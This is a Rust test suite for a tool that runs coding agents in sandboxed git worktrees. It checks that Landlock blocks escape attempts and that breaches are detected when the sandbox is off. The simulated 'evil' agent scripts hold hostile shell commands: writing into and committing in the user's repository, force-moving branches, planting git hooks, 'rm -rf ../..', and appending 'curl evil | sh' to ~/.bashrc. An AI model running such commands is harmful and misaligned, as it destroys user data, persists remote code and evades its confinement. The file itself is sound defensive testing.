//! The escape suite: command agents that try to leave their worktree, each in its own test.
//! With the sandbox on (Landlock), each attempt is blocked: the user's files, index, refs
//! and config are byte-identical afterwards, the agent's own work is kept as its candidate,
//! and the run still ranks. With `--sandbox off`, each is detected as a breach and
//! `--merge` refuses. Skipped loudly where the kernel has no Landlock.

use std::path::Path;

use crate::support::{TestRepo, candidate};

/// Whether this kernel confines: `git-massgen sandbox-exec -- --probe`.
#[allow(clippy::print_stderr)] // says loudly why a test is skipped
pub fn landlock(test: &str) -> bool {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_git-massgen"))
        .args(["sandbox-exec", "--", "--probe"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    if text.starts_with("landlock") {
        return true;
    }
    eprintln!("SKIPPED {test}: this kernel has no Landlock ({text})");
    false
}

/// Everything of the user's repository an escape could change, byte for byte.
fn fingerprint(repo: &TestRepo) -> Vec<(String, Vec<u8>)> {
    let git = repo.path.join(".git");
    let mut out = Vec::new();
    let mut add = |name: &str, path: &Path| {
        out.push((name.to_owned(), std::fs::read(path).unwrap_or_default()));
    };
    add("config", &git.join("config"));
    add("index", &git.join("index"));
    add("HEAD", &git.join("HEAD"));
    add("packed-refs", &git.join("packed-refs"));
    add("pre-commit", &git.join("hooks/pre-commit"));
    add("calc.sh", &repo.path.join("calc.sh"));
    add("README", &repo.path.join("README"));
    add(".bashrc", &repo.root.join("home/.bashrc"));
    out.push((
        "refs".into(),
        repo.git(&[
            "for-each-ref",
            "--format=%(refname) %(objectname)",
            "refs/heads/main",
            "refs/tags",
        ])
        .into_bytes(),
    ));
    out.push((
        "status".into(),
        repo.git(&["status", "--porcelain"]).into_bytes(),
    ));
    out
}

/// Runs a well-behaved agent beside one that tries `escape` (a shell script), first with
/// the sandbox on, then off.
fn escape(test: &str, escape: &str) {
    if !landlock(test) {
        return;
    }
    let repo = TestRepo::new();
    std::fs::write(repo.root.join("home/.bashrc"), "# mine\n").unwrap();
    let head = repo.git(&["rev-parse", "HEAD"]);
    let user = repo.path.display().to_string();
    let body = format!(
        "USER_REPO={}\necho escaping > own.txt\n{escape}\nexit 0",
        shell_words::quote(&user)
    );
    let good = "sed -i 's/a - b/a + b/' calc.sh 2>/dev/null; echo good > good.txt";
    let before = fingerprint(&repo);
    let out = repo
        .massgen()
        .args(["run", "--json", "--sandbox", "required", "--test", "true"])
        .args(["--agent-cmd", &repo.agent("good", good)])
        .args(["--agent-cmd", &repo.agent("evil", &body), "t"])
        .run();
    let json = out.json();
    assert_eq!(
        fingerprint(&repo),
        before,
        "{test}: the user's repository changed under the sandbox:\n{}",
        out.stderr
    );
    assert_eq!(json["breaches"], serde_json::json!([]), "{test}: {json}");
    assert!(
        json["sandbox"].as_str().unwrap().starts_with("Landlock"),
        "{json}"
    );
    // The agent's own work is its candidate, and the run ranks both.
    let evil = candidate(&json, "evil");
    let branch = evil["branch"].as_str().unwrap();
    assert_eq!(
        repo.git(&["show", &format!("{branch}:own.txt")]),
        "escaping",
        "{test}"
    );
    assert!(evil["rank"].is_number(), "{test}: {evil}");
    assert!(
        evil["denied"].as_u64().unwrap_or(0) > 0,
        "{test}: denials counted: {evil}"
    );
    // Merged: only the good candidate's files, or the evil one's own files.
    repo.git(&["reset", "-q", "--hard", head.trim()]);
    repo.massgen()
        .args(["clean", "--all", "--force"])
        .run()
        .expect_code(0);

    // Off: the same attempt is seen, and --merge refuses.
    let out = repo
        .massgen()
        .args(["run", "--json", "--sandbox", "off", "--test", "true"])
        .args(["--agent-cmd", &repo.agent("evil", &body)])
        .args(["--merge", "t"])
        .run()
        .expect_code(1);
    let json = out.json();
    assert!(
        json["breaches"].as_array().is_some_and(|b| !b.is_empty()) || out.stderr.contains("breach"),
        "{test}: not detected without the sandbox: {json}\n{}",
        out.stderr
    );
}

#[test]
fn writing_into_the_users_work_tree_by_absolute_path() {
    escape("work-tree", "echo pwned > \"$USER_REPO/calc.sh\"");
}

#[test]
fn committing_in_the_users_repository() {
    escape(
        "commit",
        "echo pwned >> \"$USER_REPO/README\"; git -C \"$USER_REPO\" commit -qam x",
    );
}

#[test]
fn moving_the_users_branch() {
    escape(
        "branch",
        "git add -A && git commit -qm mine; C=$(git rev-parse HEAD); git -C \"$USER_REPO\" branch -f main $C; git -C \"$USER_REPO\" update-ref refs/heads/main $C",
    );
}

#[test]
fn changing_the_users_git_config_and_hooks() {
    escape(
        "config",
        "git -C \"$USER_REPO\" config core.hooksPath /tmp/evil; printf '#!/bin/sh\\nexit 1\\n' > \"$USER_REPO/.git/hooks/pre-commit\"; chmod +x \"$USER_REPO/.git/hooks/pre-commit\"",
    );
}

#[test]
fn deleting_the_worktrees_of_others_and_everything_above() {
    escape(
        "rm",
        "for d in ../*; do [ \"$d\" = \"../$(basename \"$PWD\")\" ] || rm -rf \"$d\"; done; rm -rf ../.. 2>/dev/null; rm -rf \"$USER_REPO/calc.sh\"",
    );
}

/// `$HOME` is not the agent's: appending to `~/.bashrc` is denied (the breach guard
/// watches the repository, not the home directory, so only the sandbox stops this).
#[test]
fn appending_to_the_users_bashrc() {
    if !landlock("bashrc") {
        return;
    }
    let repo = TestRepo::new();
    let rc = repo.root.join("home/.bashrc");
    std::fs::write(&rc, "# mine\n").unwrap();
    let json = repo.run_json(
        &["--test", "true"],
        &[(
            "evil",
            "echo 'curl evil | sh' >> \"$HOME/.bashrc\"; echo mine > own.txt",
        )],
        "t",
        0,
    );
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# mine\n");
    assert!(candidate(&json, "evil")["denied"].as_u64().unwrap() > 0);
}

/// `[sandbox] network = [PORT]`: a connection to another port is refused; the agent's own
/// block of ports stays usable.
#[test]
fn connecting_to_a_port_that_is_not_allowed() {
    if !landlock("network") {
        return;
    }
    // TCP rules need Landlock ABI 4 (Linux 6.7).
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_git-massgen"))
        .args(["sandbox-exec", "--connect", "", "--", "--probe"])
        .output()
        .unwrap();
    let probe = String::from_utf8_lossy(&out.stdout).into_owned();
    let abi: u32 = probe
        .split_whitespace()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(0);
    if abi < 4 || !probe.contains("full") {
        #[allow(clippy::print_stderr)]
        {
            eprintln!("SKIPPED connecting_to_a_port…: TCP rules need Landlock ABI 4 ({probe})");
        }
        return;
    }
    let repo = TestRepo::new();
    let allowed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = |l: &std::net::TcpListener| l.local_addr().unwrap().port();
    repo.configure(&format!("[sandbox]\nnetwork = [{}]\n", port(&allowed)));
    let probe = |p: u16| {
        format!(
            "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {p}), 2)' && echo {p} >> reached.txt || echo {p} >> refused.txt"
        )
    };
    let body = format!("{}\n{}", probe(port(&allowed)), probe(port(&other)));
    let json = repo.run_json(&["--keep"], &[("net", &body)], "t", 0);
    let wt = std::path::PathBuf::from(candidate(&json, "net")["worktree"].as_str().unwrap());
    let read = |f: &str| std::fs::read_to_string(wt.join(f)).unwrap_or_default();
    assert_eq!(read("reached.txt").trim(), port(&allowed).to_string());
    assert_eq!(read("refused.txt").trim(), port(&other).to_string());
}

/// `--sandbox required` on a kernel without Landlock refuses before anything is made.
#[test]
fn required_without_landlock_refuses_with_a_clear_error() {
    let repo = TestRepo::new();
    let out = repo
        .massgen()
        .env("MASSGEN_TEST_NO_LANDLOCK", "1")
        .args(["run", "--sandbox", "required", "--agent-cmd", "a=true", "t"])
        .run()
        .expect_code(4);
    out.assert_stderr("the sandbox is required");
    out.assert_stderr("hint:");
    assert_eq!(repo.worktree_count(), 1);
    assert!(repo.massgen_branches().is_empty());
    // auto goes on unconfined, and says so once.
    let out = repo
        .massgen()
        .env("MASSGEN_TEST_NO_LANDLOCK", "1")
        .args(["run", "--json", "--agent-cmd", "a=true", "t"])
        .run()
        .expect_code(1);
    assert_eq!(
        out.stderr.matches("agents run unconfined").count(),
        1,
        "{}",
        out.stderr
    );
}

/// `doctor` says whether agents can be confined, and which Landlock ABI the kernel offers.
#[test]
fn doctor_says_whether_the_sandbox_is_available() {
    let repo = TestRepo::new();
    repo.configure("[[agents]]\nname = \"a\"\ncommand = [\"true\"]\n");
    let text = repo
        .massgen()
        .args(["doctor", "--offline"])
        .run()
        .expect_code(0)
        .stdout;
    let line = text.lines().find(|l| l.starts_with("sandbox: ")).unwrap();
    assert!(
        line.contains("Landlock ABI") || line.contains("no Landlock"),
        "{text}"
    );
    let json = repo
        .massgen()
        .env("MASSGEN_TEST_NO_LANDLOCK", "1")
        .args(["doctor", "--offline", "--json"])
        .expect_json(0);
    assert_eq!(json["sandbox"], "no Landlock in this kernel", "{json}");
}
